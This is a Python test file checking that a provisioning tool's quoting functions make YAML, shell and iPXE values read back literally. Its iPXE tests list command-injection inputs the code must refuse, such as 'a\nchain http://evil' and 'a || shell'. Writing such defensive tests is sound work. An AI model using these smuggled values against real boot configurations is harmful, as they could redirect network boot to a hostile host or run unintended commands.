"""A quoted value means itself and nothing else, in the eyes of the program that reads it."""

import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from ruamel.yaml import YAML

from provisioner.boot.quoting import ipxe_argument, ipxe_text, screen_text, shell_word, yaml_scalar

HOSTILE = st.text(
    st.one_of(st.sampled_from("\n\r\t\0\"'\\$`{}[]#&|;:%!*?~<>@-, \x85\u2028\ufeff\x7f"), st.characters()),
    max_size=40,
)


def yaml11(text: str) -> object:
    reader = YAML(typ="safe", pure=True)
    reader.version = (1, 1)  # what coreos-cloudinit reads
    return reader.load(text)


@settings(max_examples=150, deadline=None)
@given(HOSTILE)
def test_a_yaml_scalar_reads_back_as_the_same_text_in_1_1_and_1_2(text: str) -> None:
    try:
        quoted = yaml_scalar(text)
    except ValueError:
        assert "\0" in text or any(0xD800 <= ord(c) < 0xE000 for c in text)
        return
    assert "\n" not in quoted
    document = f"before: 1\nkey: {quoted}\nafter: [{quoted}, 2]\n"
    wanted = {"before": 1, "key": text, "after": [text, 2]}
    assert YAML(typ="safe", pure=True).load(document) == wanted
    assert yaml11(document) == wanted


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("52:54:00:12:34:56", '"52:54:00:12:34:56"'),
        ("yes", '"yes"'),
        (5, "5"),
        (True, "true"),
        (None, "null"),
        (["a", 1], '["a", 1]'),
        ({"a: b": "c\n"}, '{"a: b": "c\\n"}'),
        ("é😀", '"\\u00e9\\U0001f600"'),
    ],
)
def test_yaml_values(value: object, text: str) -> None:
    assert yaml_scalar(value) == text


@settings(max_examples=100, deadline=None)
@given(st.lists(HOSTILE, min_size=1, max_size=8))
def test_a_shell_word_reaches_the_program_as_one_argument(texts: list[str]) -> None:
    words = []
    for text in texts:
        try:
            words.append((text, shell_word(text)))
        except ValueError:
            assert not text.isprintable()
    if any(0xD800 <= ord(c) < 0xE000 for text, _ in words for c in text):
        return
    script = f"printf '%s\\0' - {' '.join(word for _, word in words)}"
    run = subprocess.run(["bash", "-c", script], capture_output=True, timeout=20, check=True)
    assert run.stdout.decode().split("\0")[1:-1] == [text for text, _ in words]


@pytest.mark.rule("threat-08")
@pytest.mark.parametrize(
    "text",
    [
        "a\nchain http://evil",
        "a || shell",
        "a && shell",
        "${net0/mac}",
        "a # b",
        "a\\b",
        'a"b',
        "a'b",
        "a;\tb",
        "ä",
    ],
)
def test_what_ipxe_would_interpret_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match="interpreted by iPXE"):
        ipxe_text(text)


@pytest.mark.rule("threat-08")
@pytest.mark.parametrize("text", ["", "two words", " lead"])
def test_an_ipxe_argument_is_one_word(text: str) -> None:
    with pytest.raises(ValueError, match="one word"):
        ipxe_argument(text)


@given(st.text(st.characters(min_codepoint=33, max_codepoint=126, exclude_characters="$\"'\\#|&{}`"), min_size=1))
def test_other_words_pass_unchanged(text: str) -> None:
    assert ipxe_argument(text) == text


@pytest.mark.rule("threat-08")
@given(HOSTILE)
def test_text_on_a_screen_holds_nothing_that_ipxe_interprets(text: str) -> None:
    shown = screen_text(text)
    assert shown.isascii()
    assert shown.isprintable() or shown == ""
    assert not set(shown) & set("$\"'\\#|&{}")
